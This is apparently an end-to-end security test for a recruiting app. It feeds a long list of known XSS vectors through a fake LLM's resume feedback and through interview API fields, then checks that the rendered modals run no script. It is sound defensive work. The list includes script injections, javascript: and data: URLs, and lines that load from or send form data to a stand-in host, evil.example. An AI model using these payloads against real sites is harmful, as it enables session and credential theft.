/**
 * Issue 5: no text inside a resume or an interview result can run code in a recruiter's browser.
 *
 * A second Kairox server is started for this file with an LLM provider pointed at a tiny
 * OpenAI-compatible server of our own, which answers every screening review with known XSS
 * vectors as `feedbackMarkdown`; the screening pipeline stores that as the candidate's
 * 'resume-feedback' note, shown by the AI feedback modal. The same vectors go into an interview
 * record (Feedback, scorecard, justification, adjustment and plain-text fields) through the
 * ingestion API, shown by the AI Interview Insights modal. Both modals are then opened in
 * Chromium and inspected.
 */
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiRequest, DEMO_ADMIN, loginViaApi, unique } from '../support/api';
import { storeToken, useBrowser } from '../support/browser';
import { addCandidateViaApi, capitalized, letterTag, notesViaApi, waitForResumeProcessed, type ApplicationRow } from '../support/candidates';
import { createJobViaApi } from '../support/jobs';
import { runServerCli, startFakeLlm, startKairoxServer, type FakeLlm, type KairoxServer } from '../support/kairox-server';
import { gone, visible } from '../support/ui';

/** Every payload that runs sets this flag (or opens a dialog); neither may ever happen. */
const RUN = 'window.__xss=1;top.__xss=1;alert(1)';
const B64_PAGE = Buffer.from(`<script>${RUN}</script>`).toString('base64');
const B64_SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64');

/** Known XSS vectors, one markdown block each (see OWASP's filter evasion cheat sheet and DOMPurify's tests). */
const XSS_VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://example.com/a.png" onload="${RUN}">`,
  `<img src="javascript:${RUN}">`,
  `<img src="https://example.com/a.png" srcset="javascript:${RUN} 1x">`,
  `<svg onload="${RUN}"><circle r="1"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="10">svg link</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math href="javascript:${RUN}">math link</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">maction</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html;base64,${B64_PAGE}"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object type="text/html" data="data:text/html;base64,${B64_PAGE}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml;base64,${B64_SVG}" type="image/svg+xml">`,
  `<a href="javascript:${RUN}">js link</a>`,
  `<a href="JaVaScRiPt:${RUN}">mixed case link</a>`,
  `<a href="jav&#x09;ascript:${RUN}">tab link</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">newline link</a>`,
  `<a href="&#14;javascript:${RUN}">control char link</a>`,
  `<a href="   javascript:${RUN}">leading spaces link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">entity link</a>`,
  `<a href="javascript&colon;${RUN}">colon entity link</a>`,
  `<a href="data:text/html;base64,${B64_PAGE}">data link</a>`,
  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
  `<a href="VBScript:msgbox(1)">vbscript upper link</a>`,
  `<a href="file:///etc/passwd">file link</a>`,
  `<a href="//evil.example/steal">protocol-relative link</a>`,
  `<a href="\\\\evil.example/steal">backslash link</a>`,
  `<a href="https://example.com/ok" onmouseover="${RUN}">hover link</a>`,
  `<a href="#x" onclick="${RUN}">onclick link</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="import" href="data:text/html;base64,${B64_PAGE}">`,
  `<form action="javascript:${RUN}"><input type="submit" value="form submit"></form>`,
  `<form action="https://evil.example/collect"><input name="password" type="password"></form>`,
  `<button formaction="javascript:${RUN}">formaction button</button>`,
  `<input type="image" src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">textarea</textarea>`,
  `<select autofocus onfocus="${RUN}"><option>select</option></select>`,
  `<style>@import 'https://evil.example/x.css'; * { background: url("javascript:${RUN}") } body { display: none }</style>`,
  `<div style="background-image:url(javascript:${RUN}); position: fixed; inset: 0; z-index: 99999">style overlay</div>`,
  `<p style="behavior: url(xss.htc); -moz-binding: url(xss.xml#xss)">legacy style</p>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary>details body</details>`,
  `<body onload="${RUN}">body tag</body>`,
  `<marquee onstart="${RUN}">marquee</marquee>`,
  `<video><source onerror="${RUN}"></video>`,
  `<video poster="javascript:${RUN}" src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<picture><source srcset="javascript:${RUN}"><img src="https://example.com/a.png" alt="picture"></picture>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<img src="https://example.com/a.png" alt="x" <img src=x onerror=${RUN}//`,
  `<div id="__xss">clobber by id</div>`,
  `<img name="__xss" src="https://example.com/a.png" alt="clobber by name">`,
  `<p onmouseover="${RUN}" onclick="${RUN}" onfocus="${RUN}" tabindex="0">paragraph with handlers</p>`,
  `<table background="javascript:${RUN}"><tr><td>table background</td></tr></table>`,
  `<blockquote cite="javascript:${RUN}">quote</blockquote>`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<xss onpointerenter="${RUN}" style="display:block;width:100%;height:50px">custom element</xss>`,
  `[markdown js link](javascript:${RUN.replace(/\(1\)/, '%281%29')})`,
  `[markdown js link in brackets](<javascript:${RUN}>)`,
  `[markdown upper link](JAVASCRIPT:${RUN.replace(/\(1\)/, '%281%29')})`,
  `[markdown tab link](jav&#x09;ascript:${RUN.replace(/\(1\)/, '%281%29')})`,
  `[markdown data link](data:text/html;base64,${B64_PAGE})`,
  `[markdown vbscript link](vbscript:msgbox)`,
  `[markdown reference link][evil]\n\n[evil]: javascript:${RUN.replace(/\(1\)/, '%281%29')}`,
  `![markdown js image](javascript:${RUN.replace(/\(1\)/, '%281%29')})`,
  `![markdown svg image](data:image/svg+xml;base64,${B64_SVG})`,
  `[markdown protocol-relative link](//evil.example/steal)`,
  `![markdown protocol-relative image](//evil.example/pixel.gif)`,
  `<javascript:${RUN.replace(/\(1\)/, '%281%29')}>`,
  `| cell |\n| --- |\n| <img src=x onerror="${RUN}"> |`,
  '`<script>inline code stays text</script>`',
  '```html\n<script>fenced code stays text</script>\n```',
];

/** The markdown fed to both modals: a heading, every vector, and two links that must survive. */
const XSS_MARKDOWN = [
  '## XSS probe',
  ...XSS_VECTORS,
  '[safe https link](https://example.com/safe)',
  '[safe mail link](mailto:recruiting@example.com)',
  'End of XSS probe.',
].join('\n\n');

/** Schemes a link or image may keep (spec section 1); anything else, and '//host', must be gone. */
const ALLOWED_SCHEMES = ['http', 'https', 'irc', 'ircs', 'mailto', 'xmpp'];

interface Inspection {
  violations: string[];
  flag: unknown;
  headings: string[];
  safeLinks: Array<{ href: string; rel: string | null }>;
  text: string;
}

/**
 * Looks at everything inside `root` (a modal) and at the whole document for what an XSS payload
 * would leave behind. The modal's own chrome (lucide icons, its buttons) is told apart from the
 * rendered text: icons are `svg.lucide` with nothing active inside, and buttons/inputs are only
 * allowed outside the markdown containers.
 */
async function inspect(root: Locator, markdownSelector: string): Promise<Inspection> {
  return root.evaluate(
    (element, { markdownSelector, allowedSchemes }) => {
      const violations: string[] = [];
      const describe = (el: Element) => el.outerHTML.slice(0, 160);
      const markdownRoots = Array.from(element.querySelectorAll(markdownSelector));
      if (markdownRoots.length === 0) violations.push(`no rendered markdown (${markdownSelector}) in the modal`);

      // Elements that must not exist anywhere in the modal.
      const never =
        'script, iframe, frame, frameset, object, embed, applet, form, meta, base, link, style, template, noscript, ' +
        'math, audio, video, source, picture, marquee, textarea, select, isindex, xss, body';
      for (const el of Array.from(element.querySelectorAll(never))) violations.push(`forbidden element: ${describe(el)}`);
      // SVG only as the app's own icons, with nothing active inside.
      for (const svg of Array.from(element.querySelectorAll('svg'))) {
        const isIcon = svg.classList.contains('lucide') && svg.getAttribute('aria-hidden') === 'true';
        if (!isIcon || svg.querySelector('script, a, foreignObject, animate, set, use, image')) violations.push(`svg: ${describe(svg)}`);
        if (markdownRoots.some((markdown) => markdown.contains(svg))) violations.push(`svg inside the markdown: ${describe(svg)}`);
      }
      // Interactive form controls only as the modal's own (never from the text).
      for (const markdown of markdownRoots) {
        for (const el of Array.from(markdown.querySelectorAll('button, input:not([type="checkbox"][disabled])'))) {
          violations.push(`form control in the markdown: ${describe(el)}`);
        }
      }

      const urlAttributes = ['href', 'src', 'cite', 'poster', 'background', 'action', 'formaction', 'data', 'xlink:href', 'ping'];
      const neverAttributes = ['srcdoc', 'srcset', 'formaction', 'action', 'xlink:href', 'http-equiv', 'background', 'ping', 'poster'];
      const allowedUrl = (raw: string) => {
        // What the browser would resolve: control characters and whitespace inside are ignored by URL parsing.
        const value = raw.replace(/[\u0000-\u0020\u007f]/g, '');
        if (value.startsWith('//') || value.startsWith('\\\\') || value.startsWith('/\\') || value.startsWith('\\/')) return false;
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value)?.[1]?.toLowerCase();
        return scheme === undefined || allowedSchemes.includes(scheme);
      };
      for (const el of [element, ...Array.from(element.querySelectorAll('*'))]) {
        for (const attribute of Array.from(el.attributes)) {
          const name = attribute.name.toLowerCase();
          if (name.startsWith('on')) violations.push(`event handler ${name}: ${describe(el)}`);
          if (neverAttributes.includes(name)) violations.push(`attribute ${name}: ${describe(el)}`);
          if (urlAttributes.includes(name) && !allowedUrl(attribute.value)) violations.push(`${name}="${attribute.value}": ${describe(el)}`);
          if (name === 'style') {
            const inMarkdown = markdownRoots.some((markdown) => markdown.contains(el));
            const alignOnly = /^\s*text-align:\s*(left|center|right|justify);?\s*$/i.test(attribute.value);
            if (/url\(|expression|javascript|behavior|binding|@import/i.test(attribute.value) || (inMarkdown && !alignOnly)) {
              violations.push(`style="${attribute.value}": ${describe(el)}`);
            }
          }
          if ((name === 'id' || name === 'name') && attribute.value === '__xss') violations.push(`clobbering ${name}: ${describe(el)}`);
        }
      }

      // The whole page: nothing a payload could have planted elsewhere.
      for (const el of Array.from(
        document.querySelectorAll('iframe, frame, object, embed, base, meta[http-equiv], body script:not([type="module"][src])'),
      )) {
        violations.push(`in the page: ${describe(el)}`);
      }

      const safeLinks = markdownRoots.flatMap((markdown) =>
        Array.from(markdown.querySelectorAll<HTMLAnchorElement>('a[href]')).map((link) => ({
          href: link.getAttribute('href') ?? '',
          rel: link.getAttribute('rel'),
        })),
      );
      const flagged = window as unknown as { __xss?: unknown };
      const top = window.top as unknown as { __xss?: unknown } | null;
      return {
        violations,
        flag: flagged.__xss ?? top?.__xss,
        headings: markdownRoots.flatMap((markdown) => Array.from(markdown.querySelectorAll('h2')).map((h) => (h.textContent ?? '').trim())),
        safeLinks,
        text: markdownRoots.map((markdown) => markdown.textContent ?? '').join('\n'),
      };
    },
    { markdownSelector, allowedSchemes: ALLOWED_SCHEMES },
  );
}

/**
 * Lets whatever a payload could trigger by itself happen first: every image scrolled into view
 * (they load lazily) and loaded or failed, then two frames drawn.
 */
async function settle(page: Page, root: Locator): Promise<void> {
  await root.evaluate(async (element) => {
    for (const img of Array.from(element.querySelectorAll('img'))) {
      img.scrollIntoView({ block: 'center' });
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });
  await page.waitForFunction(
    (element) => Array.from((element as Element).querySelectorAll('img')).every((img) => img.complete),
    await root.elementHandle(),
    { timeout: 15_000 },
  );
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
}

/**
 * Fires at every element of the rendered text the events an inline handler would wait for (pointer,
 * mouse, focus, toggle, animation; clicks on everything but real links, which would open tabs).
 * With no handler attribute left this must change nothing.
 */
async function poke(markdown: Locator): Promise<void> {
  await markdown.evaluate(async (root) => {
    const types = [
      'pointerover',
      'pointerenter',
      'mouseover',
      'mouseenter',
      'mousemove',
      'focus',
      'focusin',
      'toggle',
      'animationstart',
      'transitionend',
    ];
    for (const el of [root, ...Array.from(root.querySelectorAll('*'))]) {
      for (const type of types) el.dispatchEvent(new Event(type, { bubbles: true }));
      if (!(el instanceof HTMLAnchorElement && el.hasAttribute('href'))) (el as HTMLElement).click?.();
    }
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  });
}

/** At most `max` characters of vectors (the justification and adjustment fields hold up to 5000). */
function vectorsWithin(max: number): string {
  let text = '## XSS probe';
  for (const vector of XSS_VECTORS) {
    if (text.length + vector.length + 2 > max) break;
    text += `\n\n${vector}`;
  }
  return text;
}

/**
 * POST /api/interviews/events with the organisation's API key: the verifications and a scorecard
 * whose every text field carries the vectors (markdown fields get the whole list, short plain-text
 * fields one vector each).
 */
async function ingestInterview(baseUrl: string, key: string, applicantId: number): Promise<void> {
  const at = new Date().toISOString();
  const events = [
    { event: 'ID verification successful', applicantId, timestamp: at },
    { event: 'Voice verification successful', applicantId, timestamp: at },
    {
      event: 'Scorecard generated',
      applicantId,
      timestamp: at,
      interviewDate: at,
      candidateId: `"><svg onload="${RUN}">`,
      position: `<script>${RUN}</script> Software Engineer`,
      totalQuestions: 8,
      totalSuspiciousActivity: 2,
      totalSuspiciousEyeActivity: 3,
      TotalFaceMismatchDetected: 1,
      TotalNoFaceDetected: 1,
      noticePeriod: `<img src=x onerror="${RUN}">`.slice(0, 100),
      reference: `<a href="javascript:${RUN}">reference</a>`,
      RawOverallScore: 8.5,
      SuspicionDeduction: 1,
      OverallScore: 7.5,
      SuspiciousAdjustment: vectorsWithin(4_900),
      SuspiciousJustification: vectorsWithin(4_900),
      Feedback: XSS_MARKDOWN,
      scorecard: XSS_MARKDOWN,
      details: `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    },
  ];
  await apiRequest(baseUrl, 'POST', '/api/interviews/events', { headers: { 'x-api-key': key }, json: { events } });
}

describe('XSS: AI text in the feedback and insights modals runs no code (issue 5)', () => {
  const session = useBrowser();
  let llm: FakeLlm | undefined;
  let server: KairoxServer | undefined;
  let token = '';
  let jobId = 0;
  let candidate: ApplicationRow;
  let apiKey = '';

  beforeAll(async () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(30);
    llm = await startFakeLlm(() => JSON.stringify({ score: 70, feedbackMarkdown: XSS_MARKDOWN }));
    server = await startKairoxServer({ env: { LLM_BASE_URL: llm.baseUrl, LLM_MODEL: 'e2e-xss-model', LLM_TIMEOUT_MS: '10000' } });
    // The demo organisation exists now. An interview API key is made with the CLI, which needs the
    // embedded database to itself: stop the server for it (docs/interviews.md).
    const second = server;
    await second.restart(async () => {
      const created = await runServerCli(second, 'apps/server/src/cli/interview-keys.ts', [
        'create',
        '--org',
        DEMO_ADMIN.domainId,
        '--name',
        'e2e xss',
        '--json',
      ]);
      apiKey = (JSON.parse(created.trim().split('\n').at(-1)!) as { key: string }).key;
    });
    token = await loginViaApi(server.baseUrl, DEMO_ADMIN);
    jobId = (await createJobViaApi(server.baseUrl, token, { title: `E2E XSS ${unique()}` })).id;
    const tag = letterTag();
    const added = await addCandidateViaApi(server.baseUrl, token, jobId, {
      candidateName: `Xavier ${capitalized(tag)}`,
      candidateEmail: `xavier.${tag}@xss.example`,
    });
    candidate = await waitForResumeProcessed(server.baseUrl, token, added.id, 60_000);
    await ingestInterview(server.baseUrl, apiKey, candidate.id);
  }, 180_000);

  afterAll(async () => {
    await server?.stop();
    await llm?.stop();
  });

  /** Opens the job page on the second server with every dialog recorded. */
  async function openJobPage(page: Page): Promise<{ dialogs: string[]; row: Locator }> {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss().catch(() => undefined);
    });
    await storeToken(page, token);
    await page.goto(`${server!.baseUrl}/jobs/${jobId}`);
    const row = page.getByTestId('candidate-row').filter({ hasText: candidate.candidateEmail! });
    await visible(row, 20_000);
    return { dialogs, row };
  }

  it('stores the LLM review with the vectors as the resume-feedback note', async () => {
    expect(candidate.resumeStatus).toBe('COMPLETED');
    expect(llm!.requests()).toBeGreaterThan(0);
    const feedback = (await notesViaApi(server!.baseUrl, token, candidate.id)).filter((note) => note.noteType === 'resume-feedback');
    expect(feedback).toHaveLength(1);
    expect(feedback[0]!.note).toContain('## XSS probe');
    expect(feedback[0]!.note).toContain(`<script>${RUN}</script>`);
  });

  it("the 'AI Feedback' modal renders the vectors as harmless markdown", async () => {
    const { page } = session;
    const { dialogs, row } = await openJobPage(page);
    await row.getByRole('button', { name: 'View Feedback' }).click();
    const modal = page.getByRole('dialog', { name: `AI Feedback for ${candidate.candidateName}` });
    await visible(modal);
    const markdown = modal.getByTestId('markdown-view');
    await visible(markdown.getByRole('heading', { name: 'XSS probe' }));
    await settle(page, modal);
    await poke(markdown);

    const seen = await inspect(modal, '[data-testid="markdown-view"]');
    expect(seen.violations).toEqual([]);
    expect(seen.flag).toBeUndefined();
    expect(dialogs).toEqual([]);
    // It is rendered markdown (not escaped source), and what is safe survives.
    expect(seen.headings).toContain('XSS probe');
    expect(seen.text).toContain('End of XSS probe.');
    expect(seen.safeLinks).toContainEqual({ href: 'https://example.com/safe', rel: expect.stringContaining('noopener') });
    expect(seen.safeLinks.map((link) => link.href)).toContain('mailto:recruiting@example.com');
    // Code stays text.
    expect(seen.text).toContain('<script>inline code stays text</script>');
    await modal.getByRole('button', { name: 'Close', exact: true }).click();
    await gone(modal);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });

  it("the 'AI Interview Insights' modal renders feedback, justification, adjustment and the detailed scorecard harmlessly", async () => {
    const { page } = session;
    const { dialogs, row } = await openJobPage(page);
    // Enrichment reads the scorecard; then 'View Insights' opens the modal.
    await visible(row.getByTestId('scorecard').getByText('7.5'), 20_000);
    await row.getByRole('button', { name: 'View Insights' }).click();
    const modal = page.getByRole('dialog', { name: 'AI Interview Insights' });
    await visible(modal);
    const feedback = modal.getByTestId('insights-feedback');
    await visible(feedback.getByRole('heading', { name: 'XSS probe' }), 15_000);
    await visible(modal.getByTestId('insights-alerts'));
    await modal.getByRole('button', { name: 'Show Detailed Scorecard' }).click();
    const scorecard = modal.getByTestId('insights-scorecard');
    await visible(scorecard.getByRole('heading', { name: 'XSS probe' }));
    await settle(page, modal);
    const markdownSelector = ['insights-feedback', 'insights-scorecard', 'insights-justification', 'insights-breakdown']
      .map((id) => `[data-testid="${id}"]`)
      .join(', ');
    for (const root of await modal.locator(markdownSelector).all()) await poke(root);

    const seen = await inspect(modal, markdownSelector);
    expect(seen.violations).toEqual([]);
    expect(seen.flag).toBeUndefined();
    expect(dialogs).toEqual([]);
    // Rendered markdown in feedback, scorecard and justification; safe links kept.
    expect(seen.headings.filter((heading) => heading === 'XSS probe').length).toBeGreaterThanOrEqual(3);
    expect(seen.safeLinks).toContainEqual({ href: 'https://example.com/safe', rel: expect.stringContaining('noopener') });
    // Plain-text fields are shown as text, not markup.
    expect(await modal.getByTestId('insights-position').innerText()).toContain('<script>');
    await modal.getByRole('button', { name: 'Close', exact: true }).click();
    await gone(modal);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });
});
